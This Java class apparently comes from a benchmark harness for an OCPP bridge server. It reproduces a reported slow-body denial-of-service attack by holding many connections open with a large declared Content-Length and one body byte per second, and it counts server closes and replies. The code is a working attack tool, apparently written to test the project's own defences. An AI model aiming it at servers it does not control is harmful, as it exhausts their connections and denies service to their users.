package io.ocppbridge.bench;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;

/**
 * The slow-body attack of issue 14 from one thread: {@code count} connections, each sending a
 * POST head that declares a large {@code Content-Length} and then one body byte a second. A
 * connection the server closes is opened again at the next tick, so that the attack keeps
 * {@code count} connections at the server for as long as it runs. Non-blocking sockets: no
 * thread per connection, and a full accept queue does not stall the others.
 */
final class SlowBodyClients {

  private static final ByteBuffer ONE_BYTE = ByteBuffer.wrap(new byte[] {'<'});

  private final InetSocketAddress target;
  private final byte[] head;
  private final SocketChannel[] channels;
  private final boolean[] connected;
  private final ByteBuffer readBuffer = ByteBuffer.allocate(4096);
  private long opened;
  private long closedByServer;
  private long bytesSent;
  private final Map<String, Long> answers = new TreeMap<>();

  SlowBodyClients(URI soapUrl, int count, int contentLength) {
    this.target = new InetSocketAddress(soapUrl.getHost(), soapUrl.getPort());
    this.head = ("POST " + soapUrl.getRawPath() + " HTTP/1.1\r\nHost: " + soapUrl.getHost() + ":"
        + soapUrl.getPort() + "\r\nContent-Type: application/soap+xml; charset=utf-8\r\n"
        + "Content-Length: " + contentLength + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII);
    this.channels = new SocketChannel[count];
    this.connected = new boolean[count];
  }

  /** Keeps the attack up for {@code duration}, then closes every connection. */
  void run(Duration duration) throws InterruptedException {
    long end = System.nanoTime() + duration.toNanos();
    long tick = System.nanoTime();
    try {
      while (System.nanoTime() < end) {
        for (int i = 0; i < channels.length; i++) {
          step(i);
        }
        tick += TimeUnit.SECONDS.toNanos(1);
        long wait = tick - System.nanoTime();
        if (wait > 0) {
          TimeUnit.NANOSECONDS.sleep(Math.min(wait, end - System.nanoTime()));
        }
      }
    } finally {
      for (int i = 0; i < channels.length; i++) {
        close(i);
      }
    }
  }

  private void step(int i) {
    try {
      SocketChannel channel = channels[i];
      if (channel == null) {
        channel = SocketChannel.open();
        channel.configureBlocking(false);
        channels[i] = channel;
        connected[i] = false;
        opened++;
        if (channel.connect(target)) {
          started(i);
        }
        return;
      }
      if (!connected[i]) {
        if (channel.finishConnect()) {
          started(i);
        }
        return;
      }
      if (readAnswer(i)) {
        return;
      }
      channel.write(ONE_BYTE.duplicate());
      bytesSent++;
    } catch (IOException e) {
      closedByServer++;
      answers.merge("reset", 1L, Long::sum);
      close(i);
    }
  }

  private void started(int i) throws IOException {
    connected[i] = true;
    channels[i].write(ByteBuffer.wrap(head));
  }

  /** Reads whatever the server said; true when it closed the connection (it is then closed). */
  private boolean readAnswer(int i) throws IOException {
    readBuffer.clear();
    int n = channels[i].read(readBuffer);
    if (n > 0) {
      String text = new String(readBuffer.array(), 0, n, StandardCharsets.ISO_8859_1);
      if (text.startsWith("HTTP/1.1 ")) {
        answers.merge("HTTP " + text.substring(9, Math.min(12, text.length())), 1L, Long::sum);
      }
      return false;
    }
    if (n < 0) {
      closedByServer++;
      close(i);
      return true;
    }
    return false;
  }

  private void close(int i) {
    SocketChannel channel = channels[i];
    channels[i] = null;
    if (channel != null) {
      try {
        channel.close();
      } catch (IOException e) {
        // already gone
      }
    }
  }

  /** Connections opened in all (the first {@code count} and every reopening). */
  long opened() {
    return opened;
  }

  /** Connections the server closed (or reset). */
  long closedByServer() {
    return closedByServer;
  }

  long bytesSent() {
    return bytesSent;
  }

  /** What the server answered before closing: HTTP status lines, and resets. */
  Map<String, Long> answers() {
    return answers;
  }
}
